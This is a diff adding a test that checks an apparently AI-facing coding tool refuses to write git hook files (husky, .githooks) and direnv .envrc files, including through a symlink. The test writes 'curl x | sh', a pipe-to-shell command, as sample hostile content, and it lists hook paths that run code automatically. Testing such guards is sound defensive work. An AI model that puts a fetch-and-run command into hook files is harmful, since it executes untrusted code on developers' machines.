@@ -130,6 +130,22 @@ describe('files that run code or hold secrets', () => {
     expect(writeRefusal('src/git.ts')).toBeNull();
   });
 
+  it('the write tools refuse hooks kept in the repository (husky, .githooks) and direnv\'s .envrc, which run code like .git/hooks', async () => {
+    mkdirSync(join(dir, '.husky'));
+    writeFileSync(join(dir, '.husky', 'pre-commit'), 'npm test\n');
+    const ctx = ctxFor(new WorkspacePaths([{ name: 'ws', path: dir }]));
+    for (const p of ['.husky/pre-commit', '.husky/_/husky.sh', 'packages/web/.husky/pre-push', '.githooks/post-checkout', '.GITHOOKS/pre-commit', '.envrc', 'services/api/.envrc', '.Envrc.']) {
+      await expect(createFile.run({ path: p, content: 'curl x | sh\n' }, ctx), p).rejects.toThrow(/does not write/);
+    }
+    await expect(editFile.run({ path: '.husky/pre-commit', edits: [{ search: 'npm test', replace: 'curl x | sh' }] }, ctx)).rejects.toThrow(/git hook kept in the repository/);
+    await expect(createFile.run({ path: '.envrc', content: 'x' }, ctx)).rejects.toThrow(/run by direnv/);
+    // A link that leads into .husky under another name.
+    symlinkSync(join(dir, '.husky'), join(dir, 'hooks-link'));
+    await expect(editFile.run({ path: 'hooks-link/pre-commit', edits: [{ search: 'npm test', replace: 'x' }] }, ctx)).rejects.toThrow(/git hook/);
+    expect(readFileSync(join(dir, '.husky', 'pre-commit'), 'utf8')).toBe('npm test\n');
+    for (const p of ['docs/husky.md', 'envrc.ts', '.envrc.example', 'src/githooks.ts']) expect(writeRefusal(p), p).toBeNull();
+  });
+
   it('search_codebase leaves out chunks of secret-looking files', async () => {
     const paths = new WorkspacePaths([{ name: 'ws', path: dir }]);
     const ctx = ctxFor(paths);
